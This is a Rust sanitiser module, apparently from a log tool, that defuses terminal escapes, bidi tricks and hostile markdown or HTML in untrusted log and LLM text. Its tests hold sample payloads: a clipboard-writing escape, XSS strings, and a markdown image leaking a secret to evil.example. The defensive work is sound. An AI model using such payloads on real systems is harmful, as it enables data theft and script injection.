//! The one sanitiser for text that leaves logwarden towards a person: a terminal, an
//! HTTP header, a markdown page or a notification. Log lines are written by
//! strangers and LLM output is untrusted, so neither may carry terminal escapes
//! (colour, cursor moves, OSC 52 clipboard writes), characters an HTTP server refuses
//! in a header, bidi overrides or zero-width characters that make text read other
//! than it is, nor markdown that fetches a remote image or injects HTML when a page
//! is viewed.
//!
//! Nothing is silently dropped: an unsafe character is replaced by a visible stand-in
//! (ESC becomes `␛`, a right-to-left override `⟨U+202E⟩`), so whoever reads the
//! output sees that something was there and what.
//!
//! - [`text`]: multi-line text for a terminal or a file (keeps newlines and tabs).
//! - [`line`]: one line (titles, headers, table cells): line breaks become spaces.
//! - [`md_inline`] and [`md_text`]: untrusted text placed in markdown, rendered as
//!   text (no HTML, no images, links shown not followed, no headings).
//! - [`code_span`] and [`fence`]: log text quoted verbatim in markdown code.
//! - [`json`]: JSON output with the unsafe characters escaped as `\uXXXX`.
//! - [`Terminal`]: a writer that passes everything through [`text`].

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

/// Whether `c` must not reach a terminal, a header or a page as itself: C0 controls
/// other than tab and newline (ESC, NUL, BEL, CR, …), DEL, C1 controls (U+0080 to
/// U+009F, among them the 8-bit CSI and OSC), bidi embeddings, overrides, isolates and
/// marks, zero-width characters, the line and paragraph separators, and the BOM.
pub fn is_unsafe(c: char) -> bool {
    matches!(c,
        '\u{0}'..='\u{8}'
        | '\u{b}'..='\u{1f}'
        | '\u{7f}'..='\u{9f}'
        | '\u{61c}'
        | '\u{180e}'
        | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}'
        | '\u{feff}'
        | '\u{fff9}'..='\u{fffb}'
    )
}

/// The visible stand-in of an unsafe character: a control picture for C0 controls and
/// DEL (`␛`, `␀`, `␇`, `␡`), `⟨U+XXXX⟩` for the others.
fn stand_in(c: char, out: &mut String) {
    match c as u32 {
        n @ 0..=0x1f => out.push(char::from_u32(0x2400 + n).expect("control pictures")),
        0x7f => out.push('\u{2421}'),
        n => {
            out.push_str(&format!("⟨U+{n:04X}⟩"));
        }
    }
}

/// Multi-line text made safe for a terminal or a file: newlines and tabs stay, every
/// other unsafe character is replaced by its stand-in. Borrowed when nothing changes.
pub fn text(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_unsafe) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if is_unsafe(c) {
            stand_in(c, &mut out);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// One line of safe text: line breaks (LF, CR, NEL, U+2028/9) and tabs become one
/// space each run, other unsafe characters their stand-ins, ends trimmed. For titles,
/// header values and table cells, where a line break would start something new.
pub fn line(s: &str) -> String {
    text(&unbroken(s)).into_owned()
}

/// The text on one line: line breaks (LF, CR, NEL, U+2028/9) and tabs become one space
/// each run, ends trimmed; every other character is kept (for text stored as one line
/// and made safe where it is shown, by [`line`] or [`text`]).
pub fn unbroken(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut space = false;
    for c in s.chars() {
        if matches!(
            c,
            '\n' | '\r' | '\t' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}'
        ) {
            space = true;
            continue;
        }
        if space {
            if !out.is_empty() && !out.ends_with(' ') {
                out.push(' ');
            }
            space = false;
        }
        out.push(c);
    }
    out.trim().to_string()
}

/// A run of backticks longer than any in `s` (at least three): a code fence the text
/// cannot close.
pub fn fence(s: &str) -> String {
    "`".repeat((longest_run(s, '`') + 1).max(3))
}

fn longest_run(s: &str, ch: char) -> usize {
    let (mut longest, mut run) = (0, 0);
    for c in s.chars() {
        if c == ch {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    longest
}

/// `s` as one markdown code span, shown verbatim whatever backticks it holds: the
/// delimiter is longer than any backtick run inside.
pub fn code_span(s: &str) -> String {
    let s = line(s);
    if s.is_empty() {
        return "` `".into();
    }
    let d = "`".repeat(longest_run(&s, '`') + 1);
    if s.starts_with('`') || s.ends_with('`') {
        format!("{d} {s} {d}")
    } else {
        format!("{d}{s}{d}")
    }
}

/// A URL, or a `www.` name that GitHub-flavoured markdown would turn into a link.
static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:[a-z][a-z0-9+.\-]{0,31}://|www\.|mailto:|data:|javascript:)[^\s<>`]*")
        .expect("valid regex")
});

/// Escapes what markdown would read as markup in running text: backslashes, a `]`
/// that would close a link, an image or a reference definition, angle brackets
/// (HTML, autolinks, comments), backticks (code spans) and table pipes. URLs
/// become code spans, so they are shown and never fetched or followed.
fn escape_inline(s: &str, out: &mut String) {
    escape_inline_as(s, out, false)
}

/// `link_text`: the text goes inside a link's brackets, where any bracket of its own
/// would end it early.
fn escape_inline_as(s: &str, out: &mut String, link_text: bool) {
    let mut last = 0;
    for m in URL.find_iter(s) {
        // Trailing punctuation belongs to the sentence, as GitHub reads it; a closing
        // parenthesis only when the URL has no opening one for it.
        let mut url = m.as_str();
        loop {
            let t = url.trim_end_matches(['.', ',', ':', ';', '!', '?', '\'', '"']);
            let t = match t.strip_suffix(')') {
                Some(inner) if t.matches('(').count() < t.matches(')').count() => inner,
                _ => t,
            };
            if t.len() == url.len() {
                break;
            }
            url = t;
        }
        escape_chars_as(&s[last..m.start()], out, link_text);
        out.push_str(&code_span(url));
        last = m.start() + url.len();
    }
    escape_chars_as(&s[last..], out, link_text);
}

fn escape_chars(s: &str, out: &mut String) {
    escape_chars_as(s, out, false)
}

/// Whether `rest` (what follows a `&`) makes it an HTML character reference, which a
/// renderer would turn into the character it names (`&#x202E;` a bidi override).
fn is_reference(rest: &str) -> bool {
    let b = rest.as_bytes();
    let body = |from: usize, ok: fn(&u8) -> bool, max: usize| {
        let n = b[from..].iter().take(max + 1).take_while(|c| ok(c)).count();
        n >= 1 && n <= max && b.get(from + n) == Some(&b';')
    };
    match b.first() {
        Some(b'#') => match b.get(1) {
            Some(b'x' | b'X') => body(2, u8::is_ascii_hexdigit, 6),
            _ => body(1, u8::is_ascii_digit, 7),
        },
        Some(c) if c.is_ascii_alphabetic() => body(0, u8::is_ascii_alphanumeric, 32),
        _ => false,
    }
}

fn escape_chars_as(s: &str, out: &mut String, link_text: bool) {
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match c {
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '&' if is_reference(chars.as_str()) => out.push_str("\\&"),
            '[' | ']' if link_text => {
                out.push('\\');
                out.push(c);
            }
            '\\' | '`' | '|' => {
                out.push('\\');
                out.push(c);
            }
            // A bracket makes a link or an image only when `(`, `[` or `:` follows
            // it (inline, reference, definition); `[REDACTED:key]` stays as it is.
            ']' if matches!(chars.as_str().chars().next(), Some('(' | '[' | ':')) => {
                out.push_str("\\]")
            }
            c if is_unsafe(c) => stand_in(c, out),
            c => out.push(c),
        }
    }
}

/// Escapes what would make the start of a line a block: a heading, a list item, a
/// quote, a setext underline or a thematic break.
fn escape_line_start(s: &str) -> String {
    let body = s.trim_start();
    let indent = &s[..s.len() - body.len()];
    let mut chars = body.chars();
    match chars.next() {
        Some(c @ ('#' | '-' | '+' | '=' | '*' | '>')) => format!("{indent}\\{c}{}", chars.as_str()),
        Some(c) if c.is_ascii_digit() => {
            let digits = body.len() - body.trim_start_matches(|c: char| c.is_ascii_digit()).len();
            let rest = &body[digits..];
            match rest.chars().next() {
                Some(p @ ('.' | ')')) => format!("{indent}{}\\{p}{}", &body[..digits], &rest[1..]),
                _ => s.to_string(),
            }
        }
        _ => s.to_string(),
    }
}

/// Escapes what would make a line of running text a heading: `#`, or a line of only
/// `=` or `-` (a setext underline, which turns the line above into a heading).
/// Lists stay lists.
fn escape_heading(s: &str) -> String {
    let body = s.trim_start();
    let indent = &s[..s.len() - body.len()];
    let t = body.trim_end();
    let underline =
        !t.is_empty() && (t.chars().all(|c| c == '=') || t.chars().all(|c| c == '-' || c == ' '));
    if body.starts_with('#') || underline {
        format!("{indent}\\{body}")
    } else {
        s.to_string()
    }
}

/// Untrusted text (a title, a log message, an LLM's one-line answer) as one line of
/// markdown that renders as exactly that text: no HTML, no image, no link to follow,
/// no heading or list, no line break.
pub fn md_inline(s: &str) -> String {
    let one = line(s);
    let mut out = String::with_capacity(one.len() + 8);
    escape_inline(&one, &mut out);
    escape_line_start(&out)
}

/// [`md_inline`] for the text of a link (`[#12 <text>](page.md)`): its brackets are
/// escaped too, so the link ends where it should.
pub fn md_link_text(s: &str) -> String {
    let one = line(s);
    let mut out = String::with_capacity(one.len() + 8);
    escape_inline_as(&one, &mut out, true);
    out
}

/// Untrusted multi-line text (an LLM's summary, root cause or suggested fix) as
/// markdown paragraphs that render as text. Fenced code blocks and code spans stay
/// (their content is shown verbatim, never as markup); a block left open is closed
/// so it cannot swallow the rest of the page. Lists stay; headings, setext
/// underlines, HTML, images and links are escaped; URLs become code spans.
pub fn md_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 16);
    // the fence that opened the current code block: its character and length
    let mut open: Option<(char, usize)> = None;
    for raw in s.lines() {
        let l = text(raw);
        let l = l.as_ref();
        let trimmed = l.trim_start();
        let run = |ch: char| trimmed.chars().take_while(|&c| c == ch).count();
        match open {
            Some((ch, n)) => {
                out.push_str(l);
                out.push('\n');
                if run(ch) >= n && trimmed.trim_start_matches(ch).trim().is_empty() {
                    open = None;
                }
                continue;
            }
            None => {
                for ch in ['`', '~'] {
                    let n = run(ch);
                    if n >= 3 && !(ch == '`' && trimmed[n..].contains('`')) {
                        // a fence line: its info string is escaped like any text
                        let indent = &l[..l.len() - trimmed.len()];
                        let mut info = String::new();
                        escape_chars(trimmed[n..].trim(), &mut info);
                        out.push_str(&format!("{indent}{}{info}\n", ch.to_string().repeat(n)));
                        open = Some((ch, n));
                        break;
                    }
                }
                if open.is_some() {
                    continue;
                }
            }
        }
        out.push_str(&escape_heading(&inline_with_code(l)));
        out.push('\n');
    }
    if let Some((ch, n)) = open {
        out.push_str(&ch.to_string().repeat(n));
        out.push('\n');
    }
    while out.ends_with('\n') {
        out.pop();
    }
    out
}

/// One line of running text: code spans closed on the line are kept verbatim, the
/// rest escaped (a lone backtick is escaped, so it cannot pair with a later one).
fn inline_with_code(l: &str) -> String {
    let mut out = String::with_capacity(l.len() + 8);
    let mut rest = l;
    loop {
        let Some(start) = rest.find('`') else {
            escape_inline(rest, &mut out);
            return out;
        };
        let n = rest[start..].chars().take_while(|&c| c == '`').count();
        let after = &rest[start + n..];
        // the closing run: exactly n backticks
        let mut close = None;
        let mut i = 0;
        while let Some(p) = after[i..].find('`') {
            let at = i + p;
            let m = after[at..].chars().take_while(|&c| c == '`').count();
            if m == n {
                close = Some(at);
                break;
            }
            i = at + m;
        }
        escape_inline(&rest[..start], &mut out);
        match close {
            Some(at) => {
                out.push_str(&rest[start..start + n + at + n]);
                rest = &after[at + n..];
            }
            None => {
                for _ in 0..n {
                    out.push_str("\\`");
                }
                rest = after;
            }
        }
    }
}

/// JSON text with the unsafe characters inside its strings escaped as `\uXXXX`
/// (serde escapes C0 controls, not DEL, C1 or bidi characters): the value is the
/// same, the bytes are safe for a terminal.
pub fn json(s: &str) -> Cow<'_, str> {
    if !s.chars().any(is_unsafe) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if is_unsafe(c) && c != '\n' {
            out.push_str(&format!("\\u{:04x}", c as u32));
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A writer that passes text through [`text`] on its way to a terminal (stdout,
/// stderr, the tracing log). Bytes that are not UTF-8 are shown as U+FFFD.
pub struct Terminal<W: std::io::Write> {
    inner: W,
    /// The start of a character split between two writes.
    pending: Vec<u8>,
}

impl<W: std::io::Write> Terminal<W> {
    pub fn new(inner: W) -> Self {
        Terminal {
            inner,
            pending: Vec::new(),
        }
    }
}

impl<W: std::io::Write> std::io::Write for Terminal<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.pending.extend_from_slice(buf);
        let valid = match std::str::from_utf8(&self.pending) {
            Ok(_) => self.pending.len(),
            Err(e) if e.error_len().is_none() => e.valid_up_to(),
            Err(_) => self.pending.len(),
        };
        let chunk: Vec<u8> = self.pending.drain(..valid).collect();
        let s = String::from_utf8_lossy(&chunk);
        self.inner.write_all(text(&s).as_bytes())?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        if !self.pending.is_empty() {
            let rest = std::mem::take(&mut self.pending);
            self.inner
                .write_all(String::from_utf8_lossy(&rest).as_bytes())?;
        }
        self.inner.flush()
    }
}

impl<W: std::io::Write> Drop for Terminal<W> {
    fn drop(&mut self) {
        let _ = std::io::Write::flush(self);
    }
}

/// `println!` through [`text`]: what a command prints to a terminal.
#[macro_export]
macro_rules! outln {
    () => { println!() };
    ($($t:tt)*) => { println!("{}", $crate::sanitize::text(&format!($($t)*))) };
}

/// `print!` through [`text`].
#[macro_export]
macro_rules! out {
    ($($t:tt)*) => { print!("{}", $crate::sanitize::text(&format!($($t)*))) };
}

/// `eprintln!` through [`text`].
#[macro_export]
macro_rules! errln {
    () => { eprintln!() };
    ($($t:tt)*) => { eprintln!("{}", $crate::sanitize::text(&format!($($t)*))) };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn character_references_stay_text() {
        assert_eq!(
            md_inline("html &lt;b&gt; bidi &#x202E; &#8238; &amp; R&D & co &#; &#12345678; &a b;"),
            "html \\&lt;b\\&gt; bidi \\&#x202E; \\&#8238; \\&amp; R&D & co &#; &#12345678; &a b;"
        );
        assert!(!is_reference("#x1234567;"));
        assert!(is_reference("Aacute;"));
        assert!(!is_reference(""));
    }

    #[test]
    fn link_text_keeps_no_bracket_of_its_own() {
        let t = md_link_text("close ] bracket](http://x) and [x] `[y]`");
        let mut prev = ' ';
        for c in t.chars() {
            assert!(!matches!(c, '[' | ']') || prev == '\\', "{t}");
            prev = c;
        }
        assert!(t.starts_with("close \\] bracket\\]"), "{t}");
    }

    #[test]
    fn controls_become_visible_stand_ins() {
        assert_eq!(text("a\x1b[31mred\x07\0\x7f"), "a␛[31mred␇␀␡");
        assert_eq!(text("osc \x1b]52;c;ZXZpbA==\x07"), "osc ␛]52;c;ZXZpbA==␇");
        assert_eq!(text("c1 \u{9b}2J"), "c1 ⟨U+009B⟩2J");
        assert_eq!(text("user\u{202e}fdp.exe"), "user⟨U+202E⟩fdp.exe");
        assert_eq!(text("zero\u{200b}width"), "zero⟨U+200B⟩width");
        assert_eq!(
            text("keeps\ttabs\nand newlines"),
            "keeps\ttabs\nand newlines"
        );
        assert_eq!(text("cr\r"), "cr␍");
        assert!(matches!(text("plain é ✓"), Cow::Borrowed(_)));
    }

    #[test]
    fn one_line_forms() {
        assert_eq!(line("  a\nb\r\n\tc\u{2028}d  "), "a b c d");
        assert_eq!(line("t\x1b]0;pwned\x07"), "t␛]0;pwned␇");
        assert!(!line("x\u{85}y").contains('\u{85}'));
    }

    #[test]
    fn nothing_unsafe_survives_any_form() {
        let nasty: String = (0u32..0x100)
            .chain([0x202e, 0x2066, 0x200b, 0xfeff, 0x2028, 0x61c])
            .filter_map(char::from_u32)
            .collect();
        for out in [
            text(&nasty).into_owned(),
            line(&nasty),
            md_inline(&nasty),
            md_text(&nasty),
            code_span(&nasty),
        ] {
            let bad: Vec<char> = out
                .chars()
                .filter(|&c| is_unsafe(c) && c != '\n' && c != '\t')
                .collect();
            assert!(bad.is_empty(), "{bad:?} in {out:?}");
        }
        for out in [line(&nasty), md_inline(&nasty), code_span(&nasty)] {
            assert!(!out.contains(['\n', '\t']), "{out:?}");
        }
    }

    /// Whether `pat` occurs without a backslash before it.
    fn unescaped(s: &str, pat: &str) -> bool {
        s.match_indices(pat).any(|(i, _)| !s[..i].ends_with('\\'))
    }

    #[test]
    fn inline_markdown_is_text() {
        let s = md_inline("# Boom ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> [a][b]\n## second");
        assert!(!s.starts_with('#'), "{s}");
        for pat in ["](", "][", "]:"] {
            assert!(!unescaped(&s, pat), "{pat} in {s}");
        }
        assert_eq!(
            md_inline("key [REDACTED:stripe-key] gone"),
            "key [REDACTED:stripe-key] gone"
        );
        assert!(!unescaped(
            &md_inline("[ref]: https://evil.example/x"),
            "]:"
        ));
        assert!(!s.contains('<') && !s.contains('\n'), "{s}");
        assert!(s.contains("(`https://evil.example/?q=secret`)"), "{s}");
        assert_eq!(
            md_inline("see https://x.example/a_(b)."),
            "see `https://x.example/a_(b)`."
        );
        assert_eq!(md_inline("- item"), "\\- item");
        assert_eq!(md_inline("1. item"), "1\\. item");
        assert_eq!(md_inline("a | b"), "a \\| b");
        assert_eq!(md_inline("www.evil.example/x"), "`www.evil.example/x`");
    }

    #[test]
    fn multi_line_markdown_keeps_code_and_lists_but_no_markup() {
        let s = md_text(
            "Pool exhausted.\n# Fake heading\nsetext\n===\n- check `max_connections`\n<script>alert(1)</script>\n![x](https://evil/?q=1)\n```sh\nsystemctl restart <svc> # [x](y)\n```\nafter",
        );
        assert!(s.contains("\\# Fake heading"), "{s}");
        assert!(s.contains("\\==="), "{s}");
        assert!(s.contains("\n- check `max_connections`"), "lists stay: {s}");
        assert!(md_text("a\n---\nb").contains("\\---"), "no setext heading");
        assert!(s.contains("&lt;script&gt;"), "{s}");
        assert!(s.contains("![x\\]("), "{s}");
        assert!(
            s.contains("```sh\nsystemctl restart <svc> # [x](y)\n```\nafter"),
            "code kept verbatim: {s}"
        );
        // an unclosed block is closed
        let s = md_text("```\nswallow the page");
        assert!(s.ends_with("\n```"), "{s}");
        // a lone backtick cannot pair with a later one on another line
        assert_eq!(md_text("a ` b"), "a \\` b");
        // the page's notes marker cannot be forged
        assert!(!md_text("<!-- logwarden: x -->").contains("<!--"));
    }

    #[test]
    fn code_spans_and_fences_outgrow_backticks() {
        assert_eq!(code_span("a`b"), "``a`b``");
        assert_eq!(code_span("`x"), "`` `x ``");
        assert_eq!(code_span("plain"), "`plain`");
        assert_eq!(fence("a ```` b"), "`````");
        assert_eq!(fence("plain"), "```");
    }

    #[test]
    fn json_escapes_what_serde_leaves() {
        let v = serde_json::to_string(&"a\u{9b}b\u{202e}c\x1b").unwrap();
        let j = json(&v);
        assert!(!j.chars().any(is_unsafe), "{j}");
        let back: String = serde_json::from_str(&j).unwrap();
        assert_eq!(back, "a\u{9b}b\u{202e}c\x1b");
    }

    #[test]
    fn terminal_writer_sanitises_split_writes() {
        use std::io::Write;
        let mut buf = Vec::new();
        {
            let mut t = Terminal::new(&mut buf);
            let bytes = "é\x1b[2Jok".as_bytes();
            t.write_all(&bytes[..1]).unwrap();
            t.write_all(&bytes[1..]).unwrap();
        }
        assert_eq!(String::from_utf8(buf).unwrap(), "é␛[2Jok");
    }
}
